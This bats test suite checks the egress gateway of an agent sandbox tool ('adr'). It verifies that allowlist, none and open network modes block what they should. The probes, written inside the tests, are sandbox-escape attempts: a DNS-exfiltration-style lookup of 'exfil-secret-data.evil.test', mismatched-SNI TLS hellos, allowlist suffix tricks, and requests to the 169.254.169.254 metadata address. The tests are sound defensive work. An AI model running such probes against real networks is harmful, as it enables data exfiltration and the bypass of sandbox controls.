#!/usr/bin/env bats
# Network policy against the real engine: none, allowlist through adr's
# egress gateway, open.  Probes NET-01, 02, 05, 07, 09, 10 of
# ../shared/security-probes.md, each with a control that shows the probe
# sees success when there is success to see.
#
# The "internet" is on the host: tests/mock/upstream.py (HTTP, raw TCP, and
# a port never allowed) on the docker bridge's address, and
# tests/mock/dns.py as the resolver the gateway asks (ADR_DNS), which logs
# every query it gets.  Clients inside the sandbox are bash's /dev/tcp and
# getent only: one raw TCP client that honours no proxy settings, one that
# speaks to the proxy by hand.

#
# network-pool.bats is this file again (a symlink) with the egress pool on:
# every allowlist sandbox claims a unit made ahead (adr warm), and the test
# checks that it did (the unit is gone after the run).  The tests of
# persistent agents and of a gateway of the run's own are network.bats's.

bats_require_minimum_version 1.5.0
load ../lib/testimage
load ../lib/hostip

POOL=0
[ "$(basename "$BATS_TEST_FILENAME")" != network-pool.bats ] || POOL=1
own_gateway_only() { [ "$POOL" = 0 ] || skip "no pool unit: a gateway of its own (network.bats)"; }

setup_file() {
  export ADR_BIN=${ADR_BIN:-$BATS_TEST_DIRNAME/../../build/adr}
  export PREFIX_ID="adrnet$$$RANDOM"
  export BATS_RUN_PREFIX="$PREFIX_ID"
  adr_test_image "$PREFIX_ID"
  HOSTIP=$(bridge_host_ip)
  export HOSTIP
  local d=$BATS_FILE_TMPDIR
  export UP_LOG="$d/upstream.log" DNS_LOG="$d/dns.log"
  python3 "$BATS_TEST_DIRNAME/../mock/upstream.py" --host "$HOSTIP" --log "$UP_LOG" >"$d/up.out" 2>"$d/up.err" &
  echo $! >"$d/up.pid"
  python3 "$BATS_TEST_DIRNAME/../mock/dns.py" --bind "$HOSTIP" --port 0 --log "$DNS_LOG" \
    --map "allowed.test=$HOSTIP" --map "sub.allowed.test=$HOSTIP" --map "evilallowed.test=$HOSTIP" \
    --map "evil.test=$HOSTIP" --map "meta.test=169.254.169.254" --map "loop.test=127.0.0.1" \
    >"$d/dns.out" 2>"$d/dns.err" &
  echo $! >"$d/dns.pid"
  for _ in $(seq 100); do
    grep -q ready "$d/up.out" 2>/dev/null && grep -q listening "$d/dns.out" 2>/dev/null && break
    sleep 0.1
  done
  export HTTP_PORT=$(awk '$1=="http"{print $2}' "$d/up.out")
  export RAW_PORT=$(awk '$1=="raw"{print $2}' "$d/up.out")
  export OTHER_PORT=$(awk '$1=="other"{print $2}' "$d/up.out")
  export UDP_PORT=$(awk '$1=="udp"{print $2}' "$d/up.out")
  export DNS_PORT=$(awk '/^listening/{print $2}' "$d/dns.out")
  [ -n "$HTTP_PORT" ] && [ -n "$DNS_PORT" ] || { cat "$d/up.err" "$d/dns.err" >&2; return 1; }
  # ClientHellos as a real TLS client sends them, with a given SNI
  for sni in allowed.test evil.test; do
    python3 - "$sni" "$d/hello-$sni.bin" <<'PY'
import ssl, sys
ctx = ssl.create_default_context()
i, o = ssl.MemoryBIO(), ssl.MemoryBIO()
s = ctx.wrap_bio(i, o, server_hostname=sys.argv[1])
try:
    s.do_handshake()
except ssl.SSLWantReadError:
    pass
open(sys.argv[2], "wb").write(o.read())
PY
  done
}

teardown_file() {
  kill "$(cat "$BATS_FILE_TMPDIR/up.pid")" "$(cat "$BATS_FILE_TMPDIR/dns.pid")" 2>/dev/null || true
  docker rmi "$BATS_RUN_PREFIX/sh:latest" >/dev/null 2>&1 || true
}

setup() {
  export HOME="$BATS_TEST_TMPDIR/home"
  export XDG_CONFIG_HOME="$HOME/.config" XDG_STATE_HOME="$HOME/.local/state"
  unset DOCKER_CONTEXT ADR_DEBUG
  mkdir -p "$HOME" "$XDG_CONFIG_HOME/adr"
  printf 'ADR_IMAGE_PREFIX=%s\nADR_AGENT=sh\nADR_DNS=%s:%s\n' "$BATS_RUN_PREFIX" "$HOSTIP" "$DNS_PORT" \
    >"$XDG_CONFIG_HOME/adr/config"
  export ADR_EGRESS_POOL=$POOL
  adr_test_image_agent_sh
  WS="$BATS_TEST_TMPDIR/ws"
  mkdir -p "$WS"
  cp "$BATS_FILE_TMPDIR"/hello-*.bin "$WS/"
  cd "$WS"
  : >"$UP_LOG"
  : >"$DNS_LOG"
}

teardown() {
  [ -z "${AGENT_NAME:-}" ] || "$ADR_BIN" rm --force --no-push "$AGENT_NAME" >/dev/null 2>&1 || true
  adr_settle
  [ "$POOL" = 0 ] || "$ADR_BIN" prune >/dev/null 2>&1 || true
  # nothing of a finished run is left: no gateway, no network
  [ -z "${SBX:-}" ] || [ "$(docker ps -aq --filter "label=dev.adr.for=$SBX" | wc -l)" -eq 0 ]
  [ -z "${SBX:-}" ] || [ "$(docker network ls -q --filter "label=dev.adr.for=$SBX" | wc -l)" -eq 0 ]
}

adr() { "$ADR_BIN" "$@"; }
adr_test_image_agent_sh() { adr_test_agent; }

# The sandbox side, in bash: helpers every probe script starts with.
LIB='
gw() { local p=${HTTP_PROXY#http://}; echo ${p%:*}; }
# direct TCP connect (no proxy): OK, UNREACH (no route: the kernel says so
# at once) or FAIL (anything else: refused, timed out)
direct() {
  local e; e=$(timeout 5 bash -c "exec 3<>/dev/tcp/$1/$2" 2>&1) && { echo OK; return; }
  case $e in
    *"No route to host"*|*"Network is unreachable"*|*"Cannot assign requested address"*) echo UNREACH ;;
    *) echo "FAIL" ;;
  esac
}
# UDP datagrams straight out (whether they arrive is for the receiver to say)
udp() { for _ in 1 2 3; do timeout 3 bash -c "echo x >/dev/udp/$1/$2" 2>/dev/null; done; echo SENT; }
# a request through the proxy, by hand: prints the status code (or CONNFAIL)
viaproxy() { # host port
  exec 3<>/dev/tcp/$(gw)/3128 || { echo CONNFAIL; return; }
  printf "GET http://%s:%s/p HTTP/1.1\r\nHost: %s:%s\r\n\r\n" "$1" "$2" "$1" "$2" >&3
  local l; IFS= read -r -t 10 l <&3; exec 3>&-; l=${l%$'"'"'\r'"'"'}; echo "${l:9:3}"
}
# a proxy-unaware HTTP client: resolves the name itself and connects to it
plain() { # host port
  exec 3<>/dev/tcp/$1/$2 2>/dev/null || { echo CONNFAIL; return; }
  printf "GET /t HTTP/1.1\r\nHost: %s:%s\r\nConnection: close\r\n\r\n" "$1" "$2" >&3
  local l; IFS= read -r -t 10 l <&3; exec 3>&-; l=${l%$'"'"'\r'"'"'}; echo "${l:9:3}"
}
# a proxy-unaware TLS client: sends a ClientHello and hangs up
tls() { # host port hello-file
  exec 3<>/dev/tcp/$1/$2 2>/dev/null || { echo CONNFAIL; return; }
  cat "$3" >&3; sleep 0.5; exec 3>&-; echo SENT
}
'

free_units() { # without a lock: not claimed
  local u d="$XDG_STATE_HOME/adr/pool"
  for u in $(ls "$d" 2>/dev/null | grep '^adr-pool-'); do [ -e "$d/.$u.lock" ] || echo "$u"; done
}

sbx() { # mode/flags... -- script
  local args=()
  while [ "$1" != -- ]; do args+=("$1"); shift; done
  shift
  local before="" u
  if [ "$POOL" = 1 ] && [[ " ${args[*]} " != *" --network none "* && " ${args[*]} " != *" --network open "* ]]; then
    "$ADR_BIN" warm sh >/dev/null
    before=$(free_units)
    [ -n "$before" ]
  fi
  SBX="adr-nettest-$RANDOM$RANDOM"
  run --separate-stderr adr run sh --name "$SBX" "${args[@]}" --prompt "$LIB
$1"
  # shown only when the test fails: what this run said
  echo "# adr run ${args[*]}: exit $status"
  [ -z "$stderr" ] || printf '# stderr: %s\n' "$stderr"
  [ -n "$before" ] || return 0
  # it ran in a pooled unit: that unit is claimed and gone with the sandbox
  adr_settle
  for u in $before; do
    [ "$(docker ps -aq --filter "label=dev.adr.for=$u" | wc -l)" -eq 0 ] || { echo "unit $u is still there" >&2; return 1; }
    [ "$(docker network ls -q --filter "label=dev.adr.for=$u" | wc -l)" -eq 0 ] || { echo "network of $u" >&2; return 1; }
  done
}

# start_agent NAME: a persistent agent in a fresh repository, sleeping, with
# the test allowlist; sets name and cname (its sandbox); teardown removes it
start_agent() {
  name=$1
  AGENT_NAME=$name
  git init -q . && git -c user.name=t -c user.email=t@example.invalid commit -q --allow-empty -m init
  [ "$POOL" = 0 ] || "$ADR_BIN" warm sh >/dev/null
  run adr start sh --name "$name" "${ALLOW[@]}" --prompt 'sleep 600'
  [ "$status" -eq 0 ]
  cname=$(docker ps --filter "label=dev.adr.name=$name" --format '{{.Names}}')
  [ -n "$cname" ]
  # its gateway: its own (NAME-gw), or the claimed pool unit's
  local unit
  unit=$(docker inspect -f '{{index .Config.Labels "dev.adr.egress"}}' "$cname")
  [ "$POOL" = 0 ] && [ -z "$unit" ] || [[ "$POOL" = 1 && "$unit" == adr-pool-* ]]
  gwc=${unit:-$cname}-gw
  egress_of=${unit:-$cname}
}

ALLOW=()
allow_set() {
  ALLOW=(--allow "allowed.test:$HTTP_PORT" --allow "*.allowed.test:$HTTP_PORT" --allow "$HOSTIP:$HTTP_PORT"
         --allow "allowed.test:$RAW_PORT" --allow "$HOSTIP:$RAW_PORT")
}

@test "NET-01 direct TCP and UDP egress: none and allowlist refuse it, open allows it (control)" {
  allow_set
  sbx --network none -- "direct $HOSTIP $HTTP_PORT"
  [ "$status" -eq 0 ]
  [ "$output" = UNREACH ]
  sbx --network allowlist "${ALLOW[@]}" -- "direct $HOSTIP $HTTP_PORT; direct $HOSTIP $OTHER_PORT; direct 1.1.1.1 443
    udp $HOSTIP $UDP_PORT"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'UNREACH\nUNREACH\nUNREACH\nSENT')" ]
  sleep 1
  ! grep -q '^udp ' "$UP_LOG"   # no datagram arrived
  # the same host through the proxy works: the policy, not a broken network
  sbx --network allowlist "${ALLOW[@]}" -- "viaproxy allowed.test $HTTP_PORT"
  [ "$output" = 200 ]
  sbx --network open -- "direct $HOSTIP $HTTP_PORT; udp $HOSTIP $UDP_PORT"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'OK\nSENT')" ]
  sleep 1
  grep -q '^udp ' "$UP_LOG"     # the control: the same datagrams arrive
}

@test "NET-02 allowlist through the proxy: listed host, unlisted, suffix trick, IP literal, other port" {
  allow_set
  sbx "${ALLOW[@]}" -- "
    viaproxy allowed.test $HTTP_PORT
    viaproxy sub.allowed.test $HTTP_PORT
    viaproxy evil.test $HTTP_PORT
    viaproxy evilallowed.test $HTTP_PORT
    viaproxy $HOSTIP $OTHER_PORT
    viaproxy allowed.test $OTHER_PORT
    viaproxy $HOSTIP $HTTP_PORT"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf '200\n200\n403\n403\n403\n403\n200')" ]
  # the upstream saw exactly the three allowed requests
  [ "$(grep -c '^http ' "$UP_LOG")" -eq 3 ]
  ! grep -q '^other ' "$UP_LOG"
  # one log line per decision, in order, with the rule that decided
  python3 - "$XDG_STATE_HOME/adr/egress/$SBX/egress.jsonl" "$HTTP_PORT" "$OTHER_PORT" "$HOSTIP" <<'PY'
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
tcp = [l for l in lines if l["via"] != "dns"]
hp, op, ip = int(sys.argv[2]), int(sys.argv[3]), sys.argv[4]
want = [("allowed.test", hp, "allow", "--allow allowed.test:%d" % hp),
        ("sub.allowed.test", hp, "allow", "--allow *.allowed.test:%d" % hp),
        ("evil.test", hp, "deny", "no-match"),
        ("evilallowed.test", hp, "deny", "no-match"),
        (ip, op, "deny", "ip-literal"),
        ("allowed.test", op, "deny", "port"),
        (ip, hp, "allow", "--allow %s:%d" % (ip, hp))]
got = [(l["host"], l["port"], l["verdict"], l["rule"]) for l in tcp]
assert got == want, "\n%r\n!=\n%r" % (got, want)
keys = ["time", "sandbox", "client", "via", "method", "host", "port", "sni", "verdict", "rule",
        "bytes_up", "bytes_down", "duration_ms", "upstream", "error"]
for l in tcp:
    assert list(l.keys()) == keys, list(l.keys())
    assert l["via"] == "proxy" and l["method"] == "GET", l
for l in tcp:
    if l["verdict"] == "allow":
        assert l["bytes_up"] > 0 and l["bytes_down"] > 0 and l["upstream"].endswith(":%d" % hp), l
    else:
        assert l["bytes_up"] == 0 and l["upstream"] is None, l
PY
  # denials are summed up when the run ends
  [[ "$stderr" == *"egress: 4 requests denied"* ]]
  [[ "$stderr" == *"adr logs --egress $SBX"* ]]
  # and adr logs --egress shows the same lines
  run adr logs --egress "$SBX"
  [ "$status" -eq 0 ]
  [ "$output" = "$(cat "$XDG_STATE_HOME/adr/egress/$SBX/egress.jsonl")" ]
}

@test "proxy-unaware clients are intercepted: HTTP by Host, TLS by SNI; denied names do not resolve" {
  allow_set
  sbx "${ALLOW[@]}" -- "
    plain allowed.test $HTTP_PORT
    plain evil.test $HTTP_PORT
    tls allowed.test $RAW_PORT /workspace/hello-allowed.test.bin
    tls evil.test $RAW_PORT /workspace/hello-evil.test.bin
    exec 4<>/dev/tcp/allowed.test/$RAW_PORT && cat /workspace/hello-evil.test.bin >&4; sleep 0.5; exec 4>&-
    echo done"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf '200\nCONNFAIL\nSENT\nCONNFAIL\ndone')" ]
  # the upstream got the allowed request and exactly one ClientHello, unchanged
  grep -q "^http .* GET /t allowed.test:$HTTP_PORT" "$UP_LOG"
  [ "$(grep -c '^raw ' "$UP_LOG")" -eq 1 ]
  want=$(head -c 32 "$WS/hello-allowed.test.bin" | od -An -tx1 | tr -d ' \n')
  grep -q "^raw .* $(stat -c %s "$WS/hello-allowed.test.bin") $want\$" "$UP_LOG"
  python3 - "$XDG_STATE_HOME/adr/egress/$SBX/egress.jsonl" "$RAW_PORT" <<'PY'
import json, sys
lines = [json.loads(l) for l in open(sys.argv[1])]
tcp = [(l["via"], l["method"], l["host"], l["sni"], l["verdict"], l["rule"]) for l in lines if l["via"] != "dns"]
rp = int(sys.argv[2])
assert tcp[0][:5] == ("transparent", "GET", "allowed.test", None, "allow"), tcp
assert tcp[1][:5] == ("transparent", "TLS", "allowed.test", "allowed.test", "allow"), tcp
# a connection to an allowed name whose ClientHello names another host: denied on the SNI
assert tcp[2][:5] == ("transparent", "TLS", "evil.test", "evil.test", "deny"), tcp
assert len(tcp) == 3, tcp
dns = [(l["host"], l["verdict"]) for l in lines if l["via"] == "dns"]
assert ("evil.test", "deny") in dns and ("allowed.test", "allow") in dns, dns
PY
}

@test "NET-05 no DNS query for a denied name reaches the resolver; allowed names do (control)" {
  allow_set
  sbx "${ALLOW[@]}" -- "
    getent hosts evil.test >/dev/null; echo \$?
    getent hosts exfil-secret-data.evil.test >/dev/null; echo \$?
    getent hosts allowed.test | awk '{print \$1}' | grep -qx \"\$(gw)\"; echo \$?
    viaproxy allowed.test $HTTP_PORT"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf '2\n2\n0\n200')" ]
  # the resolver adr's gateway asks saw allowed.test (the control) and
  # nothing of evil.test
  grep -q 'allowed.test' "$DNS_LOG"
  ! grep -q 'evil' "$DNS_LOG"
}

@test "NET-07 IPv6 follows the IPv4 policy: no route out, literals refused by the gateway" {
  allow_set
  for mode in allowlist none; do
    local a=(); [ "$mode" = allowlist ] && a=("${ALLOW[@]}")
    sbx --network "$mode" "${a[@]}" -- "
      direct 2001:db8::1 80
      direct 2001:db8::1 443
      grep -v ' lo\$' /proc/net/ipv6_route 2>/dev/null | grep -c . || true"
    [ "$status" -eq 0 ]
    [ "$output" = "$(printf 'UNREACH\nUNREACH\n0')" ]
    [ "$mode" = none ] && break
    sbx "${ALLOW[@]}" -- "viaproxy '[2001:db8::1]' 80"
    [ "$output" = 403 ]
    grep -q '"host":"2001:db8::1","port":80,.*"verdict":"deny","rule":"ip-literal"' \
      "$XDG_STATE_HOME/adr/egress/$SBX/egress.jsonl"
  done
  # control: the same probe, on the host, sees an IPv6 listener (when the
  # host has IPv6 at all): it can tell success from failure
  if python3 -c 'import socket; s=socket.socket(socket.AF_INET6); s.bind(("::1", 0))' 2>/dev/null; then
    python3 -c 'import socket,time; s=socket.socket(socket.AF_INET6); s.bind(("::1", 0)); s.listen(); print(s.getsockname()[1], flush=True); time.sleep(20)' >"$BATS_TEST_TMPDIR/v6port" &
    for _ in $(seq 50); do [ -s "$BATS_TEST_TMPDIR/v6port" ] && break; sleep 0.1; done
    run bash -c "$LIB direct ::1 $(cat "$BATS_TEST_TMPDIR/v6port")"
    kill %1 2>/dev/null || true
    [ "$output" = OK ]
  fi
}

@test "NET-09/10 host services and the metadata address are out of reach; open still blocks metadata" {
  allow_set
  # allowlist: host services are only reachable as listed; the metadata
  # address neither directly, as a literal, nor behind an allowed name
  sbx "${ALLOW[@]}" --allow meta.test:80 --allow loop.test:$HTTP_PORT -- "
    direct $HOSTIP $OTHER_PORT
    direct 169.254.169.254 80
    viaproxy 169.254.169.254 80
    viaproxy meta.test 80
    viaproxy loop.test $HTTP_PORT
    viaproxy $HOSTIP $OTHER_PORT"
  [ "$status" -eq 0 ]
  [ "$output" = "$(printf 'UNREACH\nUNREACH\n403\n403\n403\n403')" ]
  python3 - "$XDG_STATE_HOME/adr/egress/$SBX/egress.jsonl" <<'PY'
import json, sys
rules = [json.loads(l)["rule"] for l in open(sys.argv[1]) if json.loads(l)["via"] != "dns"]
assert rules == ["metadata", "metadata", "private-address", "ip-literal"], rules
PY
  sbx --network none -- "direct $HOSTIP $OTHER_PORT; direct 169.254.169.254 80"
  [ "$output" = "$(printf 'UNREACH\nUNREACH')" ]
  # open: the host is reachable (control), the metadata address is routed
  # nowhere (an instant "no route", not a timeout), its neighbour is not
  sbx --network open -- "direct $HOSTIP $OTHER_PORT; direct 169.254.169.254 80; direct 169.254.169.253 80"
  [ "$status" -eq 0 ]
  [ "${lines[0]}" = OK ]
  [ "${lines[1]}" = UNREACH ]
  # its neighbour is routed as usual (answered or timed out, depending on
  # the host's network): the block is that one address
  [ "${lines[2]}" != UNREACH ]
}

@test "gateway killed: no egress; restarted by the engine or by hand: egress is back" {
  allow_set
  SBX=""
  start_agent "gwkill$RANDOM"
  probe() { adr exec "$name" bash -c "$LIB viaproxy allowed.test $HTTP_PORT; plain allowed.test $HTTP_PORT"; }
  # adr logs --egress -f follows the decisions until the gateway is gone
  "$ADR_BIN" logs --egress -f "$name" >"$BATS_TEST_TMPDIR/follow" 2>&1 &
  local fpid=$!
  run --separate-stderr probe
  [ "$output" = "$(printf '200\n200')" ]
  docker stop -t 1 "$gwc" >/dev/null
  run --separate-stderr probe
  [ "$output" = "$(printf 'CONNFAIL\nCONNFAIL')" ]
  docker start "$gwc" >/dev/null
  for _ in $(seq 50); do [ -e "$XDG_STATE_HOME/adr/egress/$cname/ready" ] && break; sleep 0.1; done
  run --separate-stderr probe
  [ "$output" = "$(printf '200\n200')" ]
  # a crash (SIGKILL of the process, not a stop): the engine restarts it
  pid=$(docker inspect -f '{{.State.Pid}}' "$gwc")
  kill -9 "$pid"
  for _ in $(seq 100); do
    [ "$(docker inspect -f '{{.State.Running}} {{.State.Pid}}' "$gwc")" != "true $pid" ] &&
      [ "$(docker inspect -f '{{.State.Running}}' "$gwc")" = true ] && break
    sleep 0.1
  done
  sleep 0.5
  run --separate-stderr probe
  [ "$output" = "$(printf '200\n200')" ]
  # rm takes the gateway and the network along
  run adr rm "$name"
  [ "$status" -eq 0 ]
  AGENT_NAME=
  for _ in $(seq 50); do kill -0 "$fpid" 2>/dev/null || break; sleep 0.1; done
  ! kill -0 "$fpid" 2>/dev/null
  [ "$(grep -c '"host":"allowed.test".*"verdict":"allow"' "$BATS_TEST_TMPDIR/follow")" -ge 6 ]
  [ "$(docker ps -aq --filter "label=dev.adr.for=$egress_of" | wc -l)" -eq 0 ]
  [ "$(docker network ls -q --filter "label=dev.adr.for=$egress_of" | wc -l)" -eq 0 ]
}

@test "a killed adr run leaves no gateway or network behind after the next start" {
  own_gateway_only
  allow_set
  SBX=adr-killed-$RANDOM
  "$ADR_BIN" run sh --name "$SBX" "${ALLOW[@]}" --prompt 'sleep 600' >/dev/null 2>&1 &
  pid=$!
  for _ in $(seq 100); do docker inspect "$SBX" >/dev/null 2>&1 && break; sleep 0.1; done
  docker inspect "$SBX-gw" >/dev/null
  kill -9 "$pid"
  wait "$pid" || true
  [ "$(docker ps -aq --filter "label=dev.adr.for=$SBX" | wc -l)" -eq 1 ]
  run adr run sh --network none --prompt true
  [ "$status" -eq 0 ]
  ! docker inspect "$SBX" >/dev/null 2>&1
  [ "$(docker ps -aq --filter "label=dev.adr.for=$SBX" | wc -l)" -eq 0 ]
  [ "$(docker network ls -q --filter "label=dev.adr.for=$SBX" | wc -l)" -eq 0 ]
}

@test "a run under a live sandbox's name is refused and changes nothing of the live one" {
  allow_set
  start_agent "twin$RANDOM"
  gwid=$(docker inspect -f '{{.Id}}' "$gwc")
  policy_before=$(cat "$XDG_STATE_HOME/adr/egress/$cname/policy")
  run --separate-stderr adr run sh --name "$cname" --allow other.test --prompt true
  [ "$status" -ne 0 ]
  [[ "$stderr" == *"create sandbox '$cname': name in use"* ]]
  # the live one's gateway, policy and egress are untouched
  [ "$(docker inspect -f '{{.Id}}' "$gwc")" = "$gwid" ]
  [ "$(cat "$XDG_STATE_HOME/adr/egress/$cname/policy")" = "$policy_before" ]
  run --separate-stderr adr exec "$name" bash -c "$LIB viaproxy allowed.test $HTTP_PORT"
  [ "$output" = 200 ]
  run adr rm "$name"
  [ "$status" -eq 0 ]
  AGENT_NAME=""
}

@test "a gateway that cannot start: its own reason in one line, nothing left" {
  own_gateway_only
  SBX=adr-badgw-$RANDOM
  printf '#!/bin/sh\necho "adr-gateway: bind 10.0.0.1:53/udp: simulated failure" >&2\nexit 1\n' >"$BATS_TEST_TMPDIR/fake-gw"
  chmod +x "$BATS_TEST_TMPDIR/fake-gw"
  ADR_GATEWAY="$BATS_TEST_TMPDIR/fake-gw" run --separate-stderr adr run sh --name "$SBX" --prompt true
  [ "$status" -ne 0 ]
  [[ "$stderr" == *"egress gateway exited (status 1) before it served: adr-gateway: bind 10.0.0.1:53/udp: simulated failure"* ]]
  [ "$(echo "$stderr" | grep -c .)" -eq 1 ]
  ! docker inspect "$SBX" >/dev/null 2>&1
  [ ! -e "$XDG_STATE_HOME/adr/egress/$SBX" ]
}

@test "bad network input: one line naming the culprit, nothing made" {
  run adr run sh --network bridge --prompt true
  [ "$status" -eq 2 ]
  [[ "$output" == *"--network: invalid network mode 'bridge' (none, allowlist, open)"* ]]
  run adr run sh --allow 'ex*ample.com' --prompt true
  [ "$status" -ne 0 ]
  [[ "$output" == *"--allow: allow entry 'ex*ample.com': wildcards only as a leading '*.'"* ]]
  run adr run sh --allow example.com:99999 --prompt true
  [ "$status" -ne 0 ]
  [[ "$output" == *"invalid port '99999'"* ]]
  run adr run sh --network none --allow example.com --prompt true
  [ "$status" -eq 2 ]
  [[ "$output" == *"--allow and --allow-preset need --network allowlist (not none)"* ]]
  run adr run sh --allow-preset everything --prompt true
  [ "$status" -eq 2 ]
  [[ "$output" == *"--allow-preset 'everything': unknown preset (packages)"* ]]
  printf 'ADR_NETWORK=wide\n' >>"$XDG_CONFIG_HOME/adr/config"
  run adr run sh --prompt true
  [ "$status" -ne 0 ]
  [[ "$output" == *"config:4: ADR_NETWORK: invalid network mode 'wide'"* ]]
  [ "${#lines[@]}" -eq 1 ]
  [ "$(docker ps -aq --filter "label=dev.adr.workspace=$WS" | wc -l)" -eq 0 ]
}

@test "the packages preset allows this host's package sources, from the host's own configuration" {
  printf 'registry=http://registry.npm.test:%s/\n' "$HTTP_PORT" >"$HOME/.npmrc"
  git init -q . && git remote add origin "https://git.test:$HTTP_PORT/x.git"
  sbx --allow-preset packages -- "viaproxy registry.npm.test $HTTP_PORT; viaproxy git.test $HTTP_PORT; viaproxy evil.test $HTTP_PORT"
  [ "$status" -eq 0 ]
  # the hosts a git remote (the agent could have written it) contributed are named
  [[ "$stderr" == *"allowed from the workspace's git remotes: git.test:$HTTP_PORT"* ]]
  # names are allowed; they resolve nowhere here (the resolver does not
  # know them), so the gateway answers 502 rather than 403
  [ "$output" = "$(printf '502\n502\n403')" ]
  python3 - "$XDG_STATE_HOME/adr/egress/$SBX/egress.jsonl" <<'PY'
import json, sys
rules = [json.loads(l)["rule"] for l in open(sys.argv[1]) if json.loads(l)["via"] != "dns"]
assert rules[0].startswith("preset packages (npm):"), rules
assert rules[1].startswith("preset packages (git remote):"), rules
assert rules[2] == "no-match", rules
PY
}
